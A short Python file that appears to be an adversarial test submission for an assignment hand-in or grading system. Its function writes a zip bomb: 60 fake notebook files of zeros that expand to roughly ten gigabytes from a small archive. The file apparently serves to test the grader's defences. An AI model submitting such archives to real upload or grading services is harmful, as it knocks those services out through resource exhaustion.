"""An attack with the file as a whole.

Tries: ten gigabytes of zeros in ten megabytes
Loses: everything
State: unreadable
Says: archive
Only: folder
Slow: it takes long to pack
"""

import io
import zipfile


def hand_in(work, folder):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for number in range(60):
            with archive.open(f"{number}.ipynb", "w") as member:
                for _ in range(170):
                    member.write(b"0" * (1 << 20))
    (folder / "work.zip").write_bytes(data.getvalue())
